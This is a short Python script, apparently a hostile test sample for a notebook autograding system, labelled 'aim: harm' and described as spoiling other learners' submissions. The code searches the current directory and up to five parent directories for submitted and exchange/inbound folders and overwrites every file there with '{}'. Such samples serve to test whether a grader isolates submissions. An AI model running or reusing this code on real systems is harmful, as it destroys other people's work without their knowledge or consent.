# Spoils the submissions of other learners.
# aim: harm
# %% first
import glob
import os

for folder in ("@OUTSIDE@/*", *(os.path.abspath("../" * n) for n in range(1, 6))):
    for path in glob.glob(f"{folder}/submitted/*/*/*") + glob.glob(f"{folder}/exchange/*/inbound/*/*"):
        try:
            open(path, "w").write("{}")
            print("spoilt", path)
        except OSError as error:
            print(error)
